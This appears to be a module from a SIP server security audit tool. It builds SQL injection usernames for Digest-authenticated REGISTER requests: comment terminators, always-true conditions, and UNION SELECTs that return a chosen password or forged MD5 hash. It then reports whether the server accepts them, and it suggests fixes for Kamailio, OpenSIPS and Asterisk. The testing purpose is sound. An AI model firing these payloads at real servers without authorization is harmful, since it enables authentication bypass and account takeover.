import { createHash } from 'node:crypto'
import type { Agent } from '../agent.ts'
import { attack } from '../attack.ts'
import { type Challenge, credentials } from '../digest.ts'
import { token } from '../saying.ts'
import type { Account } from '../target.ts'
import type { Trial } from '../trial.ts'

/** A user name that is no user's, unless a database takes it for a part of its query. */
interface Injection {
  readonly what: string
  readonly name: string
  /** The password that the query gives back then; the account's own when left out. */
  readonly password?: string
  /** The server keeps no passwords, but hashes over user, realm and password: this user's. */
  readonly hashOf?: string
}

const OWN = 'a password that only this query gives'

function injections(user: string, realm: string): readonly Injection[] {
  const ha1 = createHash('md5').update(`audit:${realm}:${OWN}`, 'latin1').digest('hex')
  const own: readonly Injection[] = [
    { what: 'a comment', name: `${user}' -- ` },
    { what: 'a comment of MySQL', name: `${user}'#` },
    { what: 'a concatenation', name: `${user.slice(0, 1)}'||'${user.slice(1)}` },
    { what: 'a condition that is true', name: `${user}' AND '1'='1` },
    { what: 'an escaped quote', name: `${user}\\' AND '1'='1` },
  ]
  const hashed = own.map(each => ({ ...each, hashOf: user }))
  const union: readonly Injection[] = [1, 2, 3].flatMap(columns => {
    const select = (value: string): string =>
      `nobody' UNION SELECT ${Array(columns).fill(`'${value}'`).join(',')} -- `
    const what = `a UNION of ${columns}`
    return [
      { what, name: select(OWN), password: OWN },
      { what, name: select(ha1), password: OWN, hashOf: 'audit' },
    ]
  })
  return [...own, ...hashed, ...union]
}

/** SQL in the user name of Authorization: the case that the paper describes. */
export const sqlInCredentials = attack({
  id: 'sql-in-credentials',
  entry: 'B01',
  title: 'logs in under names that only a database takes for a user',
  threats: ['sql-in-register'],
  clause: '§3.1, SQL injection in a REGISTER',
  references: ['RFC 7616 §3.4', 'RFC 3261 §22.4'],
  severity: 'critical',
  isIntrusive: false,
  maxMessages: 120,
  needs: ['account'],
  expected: 'Each is answered 401 or 403, a quote like any other letter.',
  mending: {
    aspis: 'On by default: names go to databases as bound parameters alone; nothing turns it off.',
    kamailio:
      'Leave escaping to auth_db, and write no `sql_query()` with `$au` or `$fU` but through `{s.escape.common}`.',
    opensips:
      'Leave escaping to auth_db, and write no `sql_query()` with `$au` or `$fU` but through `{s.escape.common}`.',
    asterisk: 'Leave escaping to realtime, and pass what goes into func_odbc through `SQL_ESC()`.',
  },
  async run(trial) {
    const [account] = trial.target.accounts
    if (account === undefined) return trial.inconclusive('there is no account')
    const { user, authUser = user } = account
    const honest = await logIn(trial, account, () => ({ what: 'the honest name', name: authUser }))
    if (honest !== 200) return trial.inconclusive(`the honest name got ${honest}`)
    const count = injections(authUser, '').length
    const tried = await Promise.all(
      Array.from({ length: count }, async (_, at) => {
        const pick = (realm: string): Injection | undefined => injections(authUser, realm)[at]
        return { what: pick('')?.what ?? '', status: await logIn(trial, account, pick) }
      }),
    )
    const letIn = tried.filter(({ status }) => status === 200)
    const [broken, whole, plain] = await Promise.all(
      [`x'`, `x''`, 'x'].map(name => logIn(trial, account, () => ({ what: name, name }))),
    )
    const isBroken = broken !== undefined && broken >= 500 && (whole ?? 0) < 500 && plain === whole
    const counts = { tried: tried.length, letIn: letIn.length }
    if (letIn.length > 0)
      return trial.succeeded(
        `${letIn.length} of ${tried.length} names with SQL were let in: ${letIn[0]?.what}`,
        counts,
      )
    if (isBroken)
      return trial.succeeded(
        `a quote in the name got ${broken}, two quotes ${whole} like a plain name: it breaks a query`,
        counts,
      )
    return trial.resisted(
      `none of ${tried.length} names with SQL was let in, and a quote broke nothing (${broken ?? 'silence'})`,
      counts,
    )
  },
})

/** Asks for the bindings of the account under another name. @returns the status; nothing for silence */
async function logIn(
  trial: Trial,
  account: Account,
  pick: (realm: string) => Injection | undefined,
): Promise<number | undefined> {
  const agent = await trial.user(account)
  const asked = {
    method: 'REGISTER',
    uri: `sip:${trial.target.domain}`,
    to: agent.aor,
    contact: false,
    callId: token(),
    fromTag: token(),
  } as const
  const first = await agent.ask({ ...asked, cseq: 1 })
  const challenge = first.final === undefined ? undefined : agent.challenge(first.final)
  const injection = challenge === undefined ? undefined : pick(challenge.realm)
  if (challenge === undefined || injection === undefined) return first.status || undefined
  const proof = proofOf(agent, challenge, account, injection)
  const { status } = await agent.ask({ ...asked, cseq: 2, lines: [proof] }, 3 * trial.silenceMs)
  return status || undefined
}

function proofOf(agent: Agent, challenge: Challenge, account: Account, injection: Injection): string {
  const { name, hashOf = name, password = account.password } = injection
  const uri = `sip:${agent.domain}`
  const lies = { username: `"${name.replaceAll('\\', '\\\\')}"` }
  return credentials(challenge, { user: hashOf, password, method: 'REGISTER', uri, lies })
}
